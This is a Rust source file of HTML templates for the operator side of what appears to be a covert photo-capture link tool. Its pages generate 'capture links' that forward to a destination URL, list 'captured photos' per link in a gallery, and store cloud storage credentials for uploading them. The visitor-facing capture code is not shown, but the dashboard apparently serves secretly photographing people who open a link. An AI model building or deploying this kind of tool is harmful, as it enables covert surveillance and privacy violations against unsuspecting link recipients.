//! Operator-facing pages. Server-side interpolation into `{{slot}}` markers;
//! all dynamic values are HTML-escaped by the handlers.

pub const HOME_PAGE: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
    <meta charset="UTF-8">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <title>Capture Link Generator</title>
    <style>
        * { margin: 0; padding: 0; box-sizing: border-box; }
        body { font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif; background: #f0f2f5; min-height: 100vh; padding: 20px; }
        .container { max-width: 800px; margin: 0 auto; background: white; border-radius: 15px; box-shadow: 0 5px 20px rgba(0,0,0,0.08); padding: 40px; }
        h1 { color: #667eea; margin-bottom: 25px; text-align: center; }
        .form-group { margin-bottom: 20px; }
        label { display: block; margin-bottom: 8px; font-weight: 600; color: #333; }
        input, select { width: 100%; padding: 12px; border: 2px solid #e1e5e9; border-radius: 8px; font-size: 16px; }
        .btn { background: #667eea; color: white; padding: 14px 28px; border: none; border-radius: 8px; font-size: 16px; cursor: pointer; width: 100%; }
        .result { margin-top: 25px; padding: 20px; background: #d4edda; border-radius: 8px; display: none; word-break: break-all; font-family: monospace; }
        .result.show { display: block; }
        .nav-links { text-align: center; margin-top: 30px; }
        .nav-links a { display: inline-block; margin: 0 10px; padding: 10px 20px; background: #17a2b8; color: white; text-decoration: none; border-radius: 6px; }
    </style>
</head>
<body>
    <div class="container">
        <h1>Capture Link Generator</h1>
        <form id="photoLinkForm">
            <div class="form-group">
                <label for="destinationUrl">Destination URL</label>
                <input type="url" id="destinationUrl" placeholder="https://your-destination.com" required>
            </div>
            <div class="form-group">
                <label for="linkName">Link name (optional)</label>
                <input type="text" id="linkName" placeholder="My campaign">
            </div>
            <div class="form-group">
                <label for="driveConfig">Storage configuration</label>
                <select id="driveConfig">
                    <option value="">Do not upload</option>
                    {{config_options}}
                </select>
            </div>
            <button type="submit" class="btn">Generate capture link</button>
        </form>
        <div id="result" class="result"></div>
        <div class="nav-links">
            <a href="/gallery">Gallery</a>
            <a href="/admin">Admin</a>
            <a href="/config_drive">Storage configs</a>
        </div>
    </div>
    <script>
        document.getElementById('photoLinkForm').addEventListener('submit', async function(e) {
            e.preventDefault();
            const response = await fetch('/create_photo_link', {
                method: 'POST',
                headers: { 'Content-Type': 'application/json' },
                body: JSON.stringify({
                    destination_url: document.getElementById('destinationUrl').value,
                    link_name: document.getElementById('linkName').value || null,
                    drive_config_id: document.getElementById('driveConfig').value || null
                })
            });
            const data = await response.json();
            const result = document.getElementById('result');
            if (data.success) {
                result.textContent = data.photo_link;
                result.classList.add('show');
            } else {
                alert('Error: ' + data.error);
            }
        });
    </script>
</body>
</html>
"#;

pub const ADMIN_PAGE: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
    <meta charset="UTF-8">
    <title>Admin</title>
    <style>
        body { font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif; background: #f0f2f5; margin: 0; padding: 20px; color: #333; }
        .container { max-width: 1000px; margin: 0 auto; background: white; border-radius: 15px; padding: 40px; }
        h1 { text-align: center; color: #667eea; margin-bottom: 30px; }
        .back-link { display: block; text-align: center; margin-bottom: 20px; color: #17a2b8; text-decoration: none; }
        .link-card { background: #f8f9fa; border: 1px solid #e1e5e9; border-radius: 10px; padding: 20px; margin-bottom: 20px; }
        .link-card h3 { margin-bottom: 10px; }
        .link-card p { margin-bottom: 5px; color: #666; word-break: break-all; }
        .stats { margin-top: 10px; font-size: 0.95rem; color: #555; }
        .stats span { margin-right: 15px; }
        .link-card button { background: #dc3545; color: white; border: none; padding: 8px 15px; border-radius: 5px; cursor: pointer; margin-top: 10px; }
        .empty { text-align: center; color: #777; padding: 50px; }
    </style>
</head>
<body>
    <div class="container">
        <a href="/" class="back-link">&larr; Back to home</a>
        <h1>Admin</h1>
        {{link_cards}}
    </div>
    <script>
        async function deleteLink(linkId) {
            if (!confirm('Delete this link and all of its photos?')) return;
            const response = await fetch('/delete_link/' + linkId, { method: 'POST' });
            const data = await response.json();
            if (data.success) { location.reload(); } else { alert('Error: ' + data.error); }
        }
    </script>
</body>
</html>
"#;

pub const GALLERY_PAGE: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
    <meta charset="UTF-8">
    <title>Captured Photos</title>
    <style>
        body { font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif; background: #f0f2f5; margin: 0; padding: 20px; color: #333; }
        .container { max-width: 1200px; margin: 0 auto; background: white; border-radius: 15px; padding: 40px; }
        h1 { text-align: center; color: #667eea; margin-bottom: 30px; }
        .back-link { display: block; text-align: center; margin-bottom: 20px; color: #17a2b8; text-decoration: none; }
        .grid { display: grid; grid-template-columns: repeat(auto-fill, minmax(280px, 1fr)); gap: 25px; }
        .photo-card { background: #fff; border: 1px solid #eee; border-radius: 10px; overflow: hidden; }
        .photo-card img { width: 100%; height: 200px; object-fit: cover; }
        .photo-info { padding: 15px; }
        .photo-info p { margin-bottom: 5px; font-size: 0.9rem; color: #666; word-break: break-all; }
        .photo-info button { background: #dc3545; color: white; border: none; padding: 8px 15px; border-radius: 5px; cursor: pointer; margin-top: 10px; }
        .empty { text-align: center; color: #777; padding: 50px; }
    </style>
</head>
<body>
    <div class="container">
        <a href="/" class="back-link">&larr; Back to home</a>
        <h1>Captured Photos</h1>
        {{photo_cards}}
    </div>
    <script>
        async function deletePhoto(photoId) {
            if (!confirm('Delete this photo (database and remote copy)?')) return;
            const response = await fetch('/delete_photo/' + photoId, { method: 'POST' });
            const data = await response.json();
            if (data.success) { location.reload(); } else { alert('Error: ' + data.error); }
        }
    </script>
</body>
</html>
"#;

pub const CONFIG_PAGE: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
    <meta charset="UTF-8">
    <title>Storage Configurations</title>
    <style>
        * { margin: 0; padding: 0; box-sizing: border-box; }
        body { font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif; background: #f0f2f5; min-height: 100vh; padding: 20px; color: #333; }
        .container { max-width: 800px; margin: 0 auto; background: white; border-radius: 15px; padding: 40px; }
        h1, h2 { color: #3f51b5; margin-bottom: 20px; text-align: center; }
        .form-group { margin-bottom: 20px; }
        label { display: block; margin-bottom: 8px; font-weight: 600; }
        input, textarea, select { width: 100%; padding: 12px; border: 2px solid #e1e5e9; border-radius: 8px; font-size: 15px; }
        textarea { min-height: 140px; font-family: monospace; }
        .btn { background: #3f51b5; color: white; padding: 14px 28px; border: none; border-radius: 8px; cursor: pointer; width: 100%; }
        .provider-fields { display: none; }
        .provider-fields.active { display: block; }
        .config-item { background: #e8eaf6; padding: 15px 20px; border-radius: 8px; margin-bottom: 12px; display: flex; justify-content: space-between; align-items: center; }
        .config-item button { background: #dc3545; color: white; border: none; padding: 8px 15px; border-radius: 5px; cursor: pointer; }
        .empty { text-align: center; color: #777; padding: 20px; }
        .nav-links { text-align: center; margin-top: 30px; }
        .nav-links a { color: #17a2b8; text-decoration: none; }
    </style>
</head>
<body>
    <div class="container">
        <h1>Storage Configurations</h1>
        <form id="configForm">
            <div class="form-group">
                <label for="configName">Configuration name</label>
                <input type="text" id="configName" required>
            </div>
            <div class="form-group">
                <label for="providerKind">Provider</label>
                <select id="providerKind">
                    <option value="drive">File hosting (Drive)</option>
                    <option value="media_host">Media hosting</option>
                </select>
            </div>
            <div id="driveFields" class="provider-fields active">
                <div class="form-group">
                    <label for="serviceAccountJson">Service account JSON</label>
                    <textarea id="serviceAccountJson" placeholder='Paste the full service account credential document'></textarea>
                </div>
                <div class="form-group">
                    <label for="folderId">Destination folder ID</label>
                    <input type="text" id="folderId">
                </div>
                <div class="form-group">
                    <label for="impersonate">Impersonated user email (optional)</label>
                    <input type="text" id="impersonate">
                </div>
            </div>
            <div id="mediaHostFields" class="provider-fields">
                <div class="form-group">
                    <label for="cloudName">Account name</label>
                    <input type="text" id="cloudName">
                </div>
                <div class="form-group">
                    <label for="apiKey">API key</label>
                    <input type="text" id="apiKey">
                </div>
                <div class="form-group">
                    <label for="apiSecret">API secret</label>
                    <input type="text" id="apiSecret">
                </div>
                <div class="form-group">
                    <label for="mediaFolder">Destination folder (optional)</label>
                    <input type="text" id="mediaFolder">
                </div>
            </div>
            <button type="submit" class="btn">Save configuration</button>
        </form>

        <h2 style="margin-top: 40px;">Saved configurations</h2>
        {{config_items}}

        <div class="nav-links"><a href="/">&larr; Back to home</a></div>
    </div>
    <script>
        const kindSelect = document.getElementById('providerKind');
        kindSelect.addEventListener('change', () => {
            document.getElementById('driveFields').classList.toggle('active', kindSelect.value === 'drive');
            document.getElementById('mediaHostFields').classList.toggle('active', kindSelect.value === 'media_host');
        });

        document.getElementById('configForm').addEventListener('submit', async function(e) {
            e.preventDefault();
            let provider;
            if (kindSelect.value === 'drive') {
                let serviceAccount;
                try {
                    serviceAccount = JSON.parse(document.getElementById('serviceAccountJson').value);
                } catch (err) {
                    alert('The service account JSON is not valid.');
                    return;
                }
                provider = {
                    kind: 'drive',
                    service_account: serviceAccount,
                    folder_id: document.getElementById('folderId').value,
                    impersonate: document.getElementById('impersonate').value || null
                };
            } else {
                provider = {
                    kind: 'media_host',
                    cloud_name: document.getElementById('cloudName').value,
                    api_key: document.getElementById('apiKey').value,
                    api_secret: document.getElementById('apiSecret').value,
                    folder: document.getElementById('mediaFolder').value || null
                };
            }
            const response = await fetch('/save_drive_config', {
                method: 'POST',
                headers: { 'Content-Type': 'application/json' },
                body: JSON.stringify({ config_name: document.getElementById('configName').value, provider: provider })
            });
            const data = await response.json();
            if (data.success) { location.reload(); } else { alert('Error: ' + data.error); }
        });

        async function deleteConfig(name) {
            if (!confirm('Delete configuration "' + name + '"? Already-uploaded files are untouched.')) return;
            const response = await fetch('/delete_drive_config/' + encodeURIComponent(name), { method: 'POST' });
            const data = await response.json();
            if (data.success) { location.reload(); } else { alert('Error: ' + data.error); }
        }
    </script>
</body>
</html>
"#;
